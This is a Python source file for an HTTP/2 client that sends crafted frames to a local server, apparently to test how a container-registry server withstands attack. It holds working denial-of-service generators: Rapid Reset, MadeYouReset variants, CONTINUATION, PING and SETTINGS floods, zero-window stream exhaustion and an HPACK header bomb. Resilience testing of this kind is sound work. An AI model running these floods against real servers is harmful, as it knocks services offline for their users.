"""An HTTP/2 client that sends the frames that it is told, for attacks and for being slow (python3-hyperframe, python3-hpack).

What it is not: a client that keeps the protocol. It acknowledges SETTINGS and PING, since an attacker would too.
"""

import select
import socket
import sys
import time

if "/usr/lib/python3/dist-packages" not in sys.path:
    sys.path.append("/usr/lib/python3/dist-packages")  # Debian's, for a Python that is not

from hpack import Encoder  # noqa: E402
from hyperframe.frame import (  # noqa: E402
    ContinuationFrame, DataFrame, ExtensionFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def encode(encoder, fields):
    """A block that leaves the table alone."""
    return encoder.encode([(name, value, True) for name, value in fields], huffman=False)


class Peer:
    def __init__(self, port, settings=None, credential=()):
        self.credential = credential  # fields of every head
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.received, self.owed = b"", b""
        self.sent, self.goaway, self.ended, self.resets = 0, None, False, 0
        self.statuses = {}
        self.socket.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        self.socket.setblocking(False)

    def head(self, target="/v2/", method="GET", more=()):
        return encode(self.encoder, [(":method", method), (":scheme", "http"), (":authority", "h"), (":path", target), *self.credential, *more])

    def send(self, *frames):
        """Sends whole frames, reading what comes meanwhile. False when the connection has ended."""
        data, self.owed = self.owed + b"".join(frame.serialize() for frame in frames), b""
        self.sent += len(frames)
        deadline = time.monotonic() + 10
        while data and not self.ended and time.monotonic() < deadline:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 1)
            if readable:
                self.read()
            if writable and not self.ended:
                try:
                    data = data[self.socket.send(data):]
                except BlockingIOError:
                    pass
                except OSError:
                    self.ended = True
        return not self.ended

    def read(self):
        try:
            piece = self.socket.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            piece = b""
        if not piece:
            self.ended = True
        self.received += piece
        while len(self.received) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                break
            frame.parse_body(memoryview(self.received[9:9 + length]))
            self.received = self.received[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway, self.why = frame.error_code, frame.additional_data
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.owed += SettingsFrame(0, flags=["ACK"]).serialize()
            elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
                self.owed += PingFrame(0, flags=["ACK"], opaque_data=frame.opaque_data).serialize()

    def wait_end(self, seconds):
        """Reads until the connection ends; False when it does not within `seconds`."""
        deadline = time.monotonic() + seconds
        while not self.ended and time.monotonic() < deadline:
            if select.select([self.socket], [], [], 0.05)[0]:
                self.read()
        return self.ended

    def close(self):
        self.socket.close()


def headers(peer, stream, end_stream=True, **head):
    flags = ["END_HEADERS", "END_STREAM"] if end_stream else ["END_HEADERS"]
    return HeadersFrame(stream, data=peer.head(**head), flags=flags)


# Each attack: what it sends in its i-th step, as frames.

def rapid_reset(peer, i):
    return [headers(peer, 2 * i + 1), RstStreamFrame(2 * i + 1, error_code=8)]


def made_you_reset_window(peer, i):
    return [headers(peer, 2 * i + 1), WindowUpdateFrame(2 * i + 1, window_increment=2 ** 31 - 1)]


def made_you_reset_length(peer, i):
    return [headers(peer, 2 * i + 1, False, method="PUT", target="/v2/a/manifests/b", more=[("content-length", "1")]),
            DataFrame(2 * i + 1, data=b"x" * 100, flags=["END_STREAM"])]


def made_you_reset_head(peer, i):
    return [headers(peer, 2 * i + 1, more=[("connection", "close")])]


def continuation(peer, i):
    if i == 0:
        return [HeadersFrame(1, data=peer.head(), flags=["END_STREAM"])]
    return [ContinuationFrame(1, data=encode(peer.encoder, [("x", "y")]))]


def ping(_peer, _i):
    return [PingFrame(0, opaque_data=b"12345678")]


def settings(_peer, i):
    return [SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i % 2})]


def empty_data(peer, i):
    if i == 0:
        return [headers(peer, 1, False, method="POST", target="/v2/a/blobs/uploads/")]
    return [DataFrame(1, data=b"")]


def tiny_windows(peer, i):
    if i == 0:
        return [headers(peer, 1, target="/v2/attack/a/blobs/" + peer.digest)]
    return [WindowUpdateFrame(1, window_increment=1)]


def zero_window_streams(peer, i):
    """Downloads that nobody reads, more and more of them, with windows of 0."""
    return [headers(peer, 2 * i + 1, target="/v2/attack/a/blobs/" + peer.digest)]


def priority(_peer, i):
    return [PriorityFrame(2 * i + 1, depends_on=0, stream_weight=1, exclusive=False)]


def unknown_frames(_peer, _i):
    frame = ExtensionFrame(type=0x7e, stream_id=0, flag_byte=0, body=b"x" * 9)
    frame.body_len = 9
    return [frame]


def header_bomb(peer, i):
    entry = b"\x40\x01x\x7f" + _length(3900 - 127) + b"y" * 3900
    return [HeadersFrame(2 * i + 1, data=peer.head() + entry + b"\xbe" * 10000, flags=["END_HEADERS", "END_STREAM"])]


def _length(rest):
    out = b""
    while rest >= 128:
        out += bytes([rest % 128 + 128])
        rest //= 128
    return out + bytes([rest])


def many_streams(peer, i):
    return [headers(peer, 2 * i + 1, False, method="PUT", target="/v2/a/manifests/b")]


ATTACKS = (rapid_reset, made_you_reset_window, made_you_reset_length, made_you_reset_head, continuation, ping, settings, empty_data, tiny_windows,
           zero_window_streams, priority, unknown_frames, header_bomb, many_streams)
